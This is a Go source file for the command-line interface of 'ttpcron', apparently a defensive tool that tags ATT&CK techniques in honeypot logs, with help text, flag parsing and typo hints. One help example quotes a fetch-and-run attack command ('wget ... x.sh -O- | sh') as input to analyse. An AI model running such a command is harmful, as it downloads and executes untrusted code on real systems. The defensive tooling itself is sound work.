package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"slices"
	"strings"

	"github.com/peterbourgon/ff/v3/ffcli"
)

// command is one command: what help says of it, and what it does.
type command struct {
	name     string // as typed, with the group's name: "checkpoint show"
	args     string // what follows the flags
	short    string // one line
	text     string // paragraphs
	examples string // one a line, without indentation
	exits    []int  // exit codes beyond done and usage
	fs       *flag.FlagSet
	group    *flag.FlagSet // the flag set of the group, nil at the top
	run      func(ctx context.Context, args []string) error
	bare     bool // needs no settings
	unstored bool // works without a store, and where there is no place for one
}

// rootCommand builds the tree of commands.
func (a *app) rootCommand() *ffcli.Command {
	root := &command{
		name:  "",
		args:  "COMMAND",
		short: "ATT&CK techniques in what honeypots recorded",
		text: `ttpcron imports honeypot logs into one file, replays windows of them through
a set of rules and keeps what the rules find as tags. It opens no network
connection and tells nobody but you.`,
		examples: `ttpcron import /var/log/cowrie
ttpcron run-once --since-days 30
ttpcron tags --since 7d
ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
		exits: []int{exitFailed, exitLocked, exitInterrupted},
		fs:    a.flags(),
	}
	return a.build(root,
		a.build(a.importCommand()),
		a.build(a.runOnceCommand()),
		a.build(a.daemonCommand()),
		a.build(a.tagsCommand()),
		a.build(a.statusCommand()),
		a.build(a.exportEventsCommand()),
		a.checkpointCommands(),
		a.rulesCommands(),
		a.dbCommands(),
		a.configCommands(),
		a.build(a.explainCommand()),
		a.build(a.versionCommand()),
	)
}

// newFlags returns a flag set that prints to nobody and never exits.
func (a *app) newFlags() *flag.FlagSet {
	fs := flag.NewFlagSet("", flag.ContinueOnError)
	fs.SetOutput(&a.help)
	return fs
}

// flags returns the flag set of a command, with the shared flags in it.
func (a *app) flags() *flag.FlagSet {
	fs := a.newFlags()
	a.share(fs)
	return fs
}

// build makes a node of the tree of a command.
func (a *app) build(c *command, sub ...*ffcli.Command) *ffcli.Command {
	node := &ffcli.Command{
		Name: c.name[strings.LastIndexByte(c.name, ' ')+1:], ShortHelp: c.short, FlagSet: c.fs, Subcommands: sub,
	}
	node.UsageFunc = func(n *ffcli.Command) string {
		a.current = n
		a.help.Reset() // an error that the flag package prints there is reported elsewhere
		return a.usage(c, n)
	}
	a.byFlags[c.fs] = c
	for _, s := range sub {
		a.byFlags[s.FlagSet].group = c.fs
	}
	if c.run != nil {
		node.Exec = func(ctx context.Context, args []string) error {
			args, err := interspersed(c.fs, args)
			if err != nil {
				if errors.Is(err, flag.ErrHelp) {
					return err
				}
				return a.flagError(err, c)
			}
			if !c.bare {
				if err := a.layer(c); err != nil {
					return err
				}
			}
			return c.run(ctx, append(args, a.literal...))
		}
	}
	return node
}

// interspersed parses flags that stand behind arguments, which the flag package
// leaves alone, and returns the arguments.
func interspersed(fs *flag.FlagSet, args []string) ([]string, error) {
	var plain []string
	for len(args) > 0 {
		if len(args[0]) < 2 || args[0][0] != '-' {
			plain, args = append(plain, args[0]), args[1:]
			continue
		}
		if err := fs.Parse(args); err != nil {
			return nil, err
		}
		args = fs.Args()
	}
	return plain, nil
}

// usage is the help of a command.
func (a *app) usage(c *command, n *ffcli.Command) string {
	var b strings.Builder
	name := strings.TrimSpace("ttpcron " + c.name)
	fmt.Fprintf(&b, "%s - %s\n\nUSAGE\n  %s\n\n", name, c.short, strings.TrimSpace(name+" [flags] "+c.args))
	if c.text != "" {
		fmt.Fprintf(&b, "%s\n\n", strings.TrimSpace(c.text))
	}
	if len(n.Subcommands) > 0 {
		b.WriteString("COMMANDS\n")
		width := 12
		for _, s := range n.Subcommands {
			width = max(width, len(s.Name)+1)
		}
		for _, s := range n.Subcommands {
			fmt.Fprintf(&b, "  %-*s %s\n", width, s.Name, s.ShortHelp)
		}
		fmt.Fprintf(&b, "\n%s COMMAND --help tells more.\n\n", name)
	}
	if own := flagLines(c.fs, func(name string) bool { return !slices.Contains(sharedFlags, name) }); own != "" {
		fmt.Fprintf(&b, "FLAGS\n%s\n", own)
	}
	if !c.bare {
		fmt.Fprintf(&b, "SHARED FLAGS\n%s\n", flagLines(c.fs, func(name string) bool { return slices.Contains(sharedFlags, name) }))
		b.WriteString("Every flag can also be set as TTPCRON_NAME in the environment, and most in the\nconfig file; a flag wins over the environment, and that over the file.\n\n")
	}
	if c.examples != "" {
		b.WriteString("EXAMPLES\n")
		for _, line := range strings.Split(c.examples, "\n") {
			fmt.Fprintf(&b, "  %s\n", line)
		}
		b.WriteString("\n")
	}
	b.WriteString("EXIT STATUS\n")
	codes := append([]int{exitDone, exitUsage}, c.exits...)
	slices.Sort(codes)
	for _, code := range codes {
		fmt.Fprintf(&b, "  %3d  %s\n", code, exitTexts[code])
	}
	return strings.TrimRight(b.String(), "\n")
}

var exitTexts = map[int]string{
	exitDone:        "done",
	exitFailed:      "failed; the message says why",
	exitUsage:       "wrong flags, arguments, environment or config file",
	exitLocked:      "another process holds the store",
	exitInterrupted: "interrupted; what was done is kept",
}

// flagLines describes the flags that a filter takes.
func flagLines(fs *flag.FlagSet, take func(string) bool) string {
	var b strings.Builder
	fs.VisitAll(func(f *flag.Flag) {
		if !take(f.Name) {
			return
		}
		arg, text := flag.UnquoteUsage(f)
		if v, ok := f.Value.(interface{ IsBoolFlag() bool }); ok && v.IsBoolFlag() {
			arg = ""
		}
		if f.DefValue != "" && f.DefValue != "false" && f.DefValue != "0" {
			text += " (default " + f.DefValue + ")"
		}
		head := strings.TrimSpace("--" + f.Name + " " + arg)
		if len(head) > 20 {
			fmt.Fprintf(&b, "  %s\n  %20s", head, "")
		} else {
			fmt.Fprintf(&b, "  %-20s", head)
		}
		b.WriteString("  " + strings.ReplaceAll(wrap(text, 56), "\n", "\n"+strings.Repeat(" ", 24)) + "\n")
	})
	return b.String()
}

// wrap breaks text into lines of at most so many characters.
func wrap(text string, width int) string {
	var b strings.Builder
	n := 0
	for i, word := range strings.Fields(text) {
		switch {
		case i == 0:
		case n+1+len(word) > width:
			b.WriteByte('\n')
			n = 0
		default:
			b.WriteByte(' ')
			n++
		}
		b.WriteString(word)
		n += len(word)
	}
	return b.String()
}

// parseError explains what ffcli could not parse.
func (a *app) parseError(err error, args []string) error {
	if errors.Is(err, flag.ErrHelp) {
		return a.showHelp()
	}
	var none ffcli.NoExecError
	if !errors.As(err, &none) {
		c := a.byFlags[a.root.FlagSet]
		if a.current != nil {
			c = a.byFlags[a.current.FlagSet]
		}
		return a.flagError(err, c)
	}
	c := a.byFlags[none.Command.FlagSet]
	var names []string
	for _, s := range none.Command.Subcommands {
		names = append(names, s.Name)
	}
	where := strings.TrimSpace("ttpcron " + c.name)
	rest := none.Command.FlagSet.Args()
	if len(rest) == 0 {
		return &usageError{"no command given", fmt.Sprintf("%s --help lists them: %s", where, strings.Join(names, ", "))}
	}
	e := &usageError{fmt.Sprintf("unknown command %q", strings.TrimSpace(c.name+" "+rest[0])), fmt.Sprintf("%s --help lists the commands", where)}
	if near := nearest(rest[0], names); near != "" {
		e.hint = fmt.Sprintf("did you mean %s %s?", where, near)
	}
	return e
}

// flagError explains what the flag package could not parse.
func (a *app) flagError(err error, c *command) error {
	text := strings.TrimPrefix(err.Error(), "error parsing commandline arguments: ")
	e := &usageError{text, fmt.Sprintf("%s --help lists the flags", strings.TrimSpace("ttpcron "+c.name))}
	name, unknown := strings.CutPrefix(text, "flag provided but not defined: -")
	if !unknown {
		return e
	}
	name = strings.TrimPrefix(name, "-")
	e.text = fmt.Sprintf("unknown flag --%s", name)
	if len(name) == 1 {
		e.text = "unknown flag -" + name
	}
	var names []string
	c.fs.VisitAll(func(f *flag.Flag) { names = append(names, f.Name) })
	if near := nearest(name, names); near != "" {
		e.hint = fmt.Sprintf("did you mean --%s?", near)
	}
	if name == "version" {
		e.hint = "did you mean ttpcron version?"
	}
	return e
}

// nearest returns the name that a mistyped one was probably meant to be, or
// nothing when none is close.
func nearest(typed string, names []string) string {
	best, distance := "", len(typed)/3+2
	for _, n := range names {
		if d := editDistance(strings.ToLower(typed), n); d < distance || d == distance-1 && best == "" {
			best, distance = n, d
		}
	}
	return best
}

// editDistance is Levenshtein's: how many letters have to be put, dropped or
// changed.
func editDistance(a, b string) int {
	row := make([]int, len(b)+1)
	for j := range row {
		row[j] = j
	}
	for i := range len(a) {
		diagonal := row[0]
		row[0] = i + 1
		for j := range len(b) {
			above := row[j+1]
			cost := diagonal
			if a[i] != b[j] {
				cost++
			}
			row[j+1] = min(cost, above+1, row[j]+1)
			diagonal = above
		}
	}
	return row[len(b)]
}
